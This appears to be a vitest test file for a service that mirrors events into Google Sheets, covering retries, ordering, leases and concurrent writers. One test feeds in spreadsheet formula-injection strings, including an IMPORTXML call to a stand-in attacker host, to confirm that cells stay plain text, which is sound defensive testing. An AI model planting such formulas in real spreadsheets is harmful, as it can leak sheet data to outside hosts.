/** Nothing is lost or doubled, whatever Google does; the order is kept; and no cell becomes a formula. */
import { describe, expect, it } from 'vitest';
import { type SheetsTrouble, SPREADSHEET } from '../../test/fakes/sheets.ts';
import { newOrganization, openTestApp } from '../../test/harness/index.ts';
import { transaction } from '../db/index.ts';
import { newId } from '../lib/ids.ts';
import { refuse } from '../lib/result.ts';
import { patchSettings } from '../settings/index.ts';
import { mirror } from './index.ts';
import { mirrorLabOfFile, scanned } from './test/mirror-lab.ts';

const lab = mirrorLabOfFile();
const many = Array.from({ length: 40 }, (_, i) => `student ${i}`);

describe('an event', () => {
  it('becomes a row of its tab, below a header, with its id and its time in the organization’s zone', async () => {
    const it = await lab.organization();
    lab.app.clock.set('2026-11-21T19:30:05Z');
    await lab.happen(it, 'Asha');
    await lab.writer.drain();
    lab.app.clock.reset();
    const [row] = await lab.rows(it);
    const tab = lab.sheets.tab('lab.scanned', it.book);
    expect(tab?.rows).toEqual([
      ['event_id', 'Time', 'name', 'meal'],
      [row?.id, expect.closeTo(46_348 + 3605 / 86_400, 6), 'Asha', 'lunch'],
    ]);
    expect(lab.sheets.shown('lab.scanned', it.book)).toEqual([[row?.id, '2026-11-22 01:00:05', 'Asha', 'lunch']]);
    expect(row).toMatchObject({ state: 'done', attempts: 1 });
  });

  it('of an organization without a spreadsheet, or of a rolled-back transaction, writes nothing', async () => {
    const without = await newOrganization(lab.app);
    await lab.happen(without, 'nobody');
    expect(await lab.rows(without)).toEqual([]);
    const it = await lab.organization();
    await transaction(it.ctx, async (tx) => {
      await mirror(tx, scanned, { name: 'undone', meal: null });
      return refuse('http.invalid');
    });
    expect(await lab.rows(it)).toEqual([]);
  });

  it('is sent with others in one request, in the order in which they happened', async () => {
    const it = await lab.organization();
    lab.sheets.trouble('append', { kind: 'too_many', retryAfter: 30 });
    const before = lab.sheets.calls.length;
    await lab.happenTogether(it, many);
    await lab.settle(it);
    expect(lab.names(it)).toEqual(many);
    const appends = lab.sheets.calls.slice(before).filter(({ call }) => call === 'append');
    expect(appends.map(({ rows }) => rows)).toEqual([many.length, many.length]);
  });

  it('corrects the date formats of an older tab, and clears the error afterwards', async () => {
    const it = await lab.organization();
    await lab.happen(it, 'Asha');
    await lab.settle(it);
    const tab = lab.sheets.tab('lab.scanned', it.book);
    if (!tab?.rows[1]) throw new Error('no tab');
    expect(tab.formats).toEqual([undefined, 'DATE_TIME']);
    tab.formats = [];
    lab.sheets.trouble('append', { kind: 'error' });
    await lab.happen(it, 'Ravi');
    await lab.writer.drain();
    const view = async () => (await (await it.as('admin')).get('/mirror')).body.data;
    expect(await view()).toMatchObject({ failing: true, last_error: { fault: 'server' } });
    await lab.settle(it);
    expect(await view()).toMatchObject({ failing: false, last_error: null });
    expect(lab.sheets.tab('lab.scanned', it.book)?.formats).toEqual([undefined, 'DATE_TIME']);
    expect(lab.names(it)).toEqual(['Asha', 'Ravi']);
  });

  it('is never a formula', async () => {
    const it = await lab.organization();
    // Nor a number or a date, in a text column.
    const texts = [
      '2026-11-21',
      '0042',
      '+919876543210',
      '=1+1',
      '=IMPORTXML("http://evil.example","//a")',
      '+1+1',
      '-2',
      '@SUM(A1)',
      "'quoted",
      '007',
      '\t=1',
    ];
    await lab.happen(it, ...texts);
    await lab.settle(it);
    expect(lab.names(it)).toEqual(texts);
  });

  it('of the first organization uses the environment’s account; of another it waits', async () => {
    const app = await openTestApp(lab.sheets.env);
    try {
      const first = await newOrganization(app);
      const other = await newOrganization(app);
      const book = `${SPREADSHEET}_first`;
      for (const it of [first, other])
        await patchSettings(it.ctx, 'mirror', {
          spreadsheet_id: `https://docs.google.com/spreadsheets/d/${book}/edit`,
        });
      app.boot.services.mirror?.events.set(scanned.name, scanned);
      await lab.happen(first, 'ours');
      await lab.happen(other, 'theirs');
      await app.boot.services.mirror?.writer?.drain();
      expect(lab.names({ book })).toEqual(['ours']);
      const { body } = await (await other.as('admin')).get('/mirror');
      expect(body.data).toMatchObject({ ready: false, missing: 'no_credentials', waiting: 1 });
    } finally {
      await app.close();
    }
  });
});

describe('nothing is lost or doubled', () => {
  const faults: [string, SheetsTrouble][] = [
    ['429 with Retry-After', { kind: 'too_many', retryAfter: 40 }],
    ['429 without', { kind: 'too_many' }],
    ['500 before it is done', { kind: 'error' }],
    ['500 after it is done', { kind: 'error_after' }],
    ['504 after it is done', { kind: 'gateway_after' }],
    ['a connection cut before it is done', { kind: 'cut' }],
    ['a connection cut after it is done', { kind: 'cut_after' }],
  ];

  it.each(faults)('after %s', async (_, trouble) => {
    const it = await lab.organization();
    await lab.happen(it, 'before');
    await lab.settle(it);
    lab.sheets.trouble('append', trouble, 2);
    await lab.happen(it, 'one', 'two', 'three');
    await lab.writer.drain();
    await lab.happen(it, 'later');
    await lab.settle(it);
    lab.sheets.calm();
    expect(lab.names(it)).toEqual(['before', 'one', 'two', 'three', 'later']);
    expect(await lab.states(it)).toEqual(Array(5).fill('done'));
  });

  it('when an interrupted request is done a minute later', async () => {
    const it = await lab.organization();
    await lab.happen(it, 'before');
    await lab.settle(it);
    lab.sheets.trouble('append', { kind: 'cut_late' });
    await lab.happen(it, 'one');
    await lab.writer.drain();
    await lab.happen(it, 'two');
    lab.app.clock.advance(60_000);
    await lab.writer.drain();
    // Google may still work on it: don't repeat it, and don't append what comes after.
    expect(lab.names(it)).toEqual(['before']);
    lab.sheets.arrive();
    await lab.settle(it);
    expect(lab.names(it)).toEqual(['before', 'one', 'two']);
  });

  it.each(['tabs', 'update', 'values', 'token'] as const)('when the fault is in %s', async (call) => {
    const it = await lab.organization();
    if (call === 'token') lab.sheets.expireTokens();
    if (call === 'values') lab.sheets.trouble('append', { kind: 'cut_after' });
    lab.sheets.trouble(call, { kind: 'cut_after' });
    lab.sheets.trouble(call, { kind: 'error' });
    lab.sheets.trouble(call, { kind: 'too_many', retryAfter: 5 });
    await lab.happen(it, 'one', 'two');
    await lab.settle(it);
    lab.sheets.calm();
    expect(lab.names(it)).toEqual(['one', 'two']);
    expect(lab.sheets.book(it.book).map(({ title }) => title)).toEqual(['Sheet1', 'lab.scanned']);
  });

  it('when tokens are withdrawn: a new one is requested at once', async () => {
    const it = await lab.organization();
    await lab.happen(it, 'one');
    await lab.writer.drain();
    lab.sheets.expireTokens();
    await lab.happen(it, 'two');
    await lab.writer.drain();
    expect(lab.names(it)).toEqual(['one', 'two']);
  });

  it('when the program dies during a request', async () => {
    const it = await lab.organization();
    await lab.happen(it, 'arrived', 'lost');
    await lab.settle(it);
    // The state after a writer died: both rows are marked, and one of them was appended.
    lab.sheets.tab('lab.scanned', it.book)?.rows.pop();
    await lab.system
      .updateTable('mirror_row')
      .set({ state: 'unsure', left_at: lab.app.clock.now() })
      .where('organization_id', '=', it.id)
      .execute();
    await lab.settle(it);
    expect(lab.names(it)).toEqual(['arrived', 'lost']);
  });

  it('when another process has the spreadsheet: this one waits until the lease expires', async () => {
    const it = await lab.organization();
    await lab.happen(it, 'one');
    await lab.settle(it);
    const lease_until = new Date(lab.app.clock.now().getTime() + 60_000);
    await lab.system
      .updateTable('mirror_book')
      .set({ lease_holder: newId(), lease_until })
      .where('organization_id', '=', it.id)
      .execute();
    await lab.happen(it, 'two');
    await lab.writer.drain();
    expect(lab.names(it)).toEqual(['one']);
    lab.app.clock.advance(61_000);
    await lab.writer.drain();
    expect(lab.names(it)).toEqual(['one', 'two']);
  });

  it('when two processes write', async () => {
    const second = await openTestApp(lab.sheets.env, lab.app.config.DATABASE_URL);
    try {
      second.boot.services.mirror?.events.set(scanned.name, scanned);
      const it = await lab.organization();
      const theirs = second.boot.services.mirror?.writer;
      lab.sheets.trouble('append', { kind: 'error_after' }, 3);
      lab.sheets.slow = 30;
      for (let round = 0; round < 8; round++) {
        await lab.happen(it, ...many.slice(round * 5, round * 5 + 5));
        await Promise.all([lab.writer.drain(), theirs?.drain()]);
        second.clock.advance(70_000);
        lab.app.clock.advance(70_000);
      }
      await lab.settle(it);
      expect(lab.names(it)).toEqual(many);
      expect([...lab.sheets.crowded]).toEqual([]);
    } finally {
      lab.sheets.slow = 0;
      await second.close();
    }
  });

  it('when people rename the tab, write notes beside the rows, or empty the sheet', async () => {
    const it = await lab.organization();
    await lab.happen(it, 'one');
    await lab.settle(it);
    const tab = lab.sheets.tab('lab.scanned', it.book);
    if (tab) tab.title = 'old';
    await lab.happen(it, 'two');
    await lab.settle(it);
    expect(lab.names(it)).toEqual(['two']);
    expect(lab.sheets.rows('old', it.book)).toHaveLength(1);
  });
});
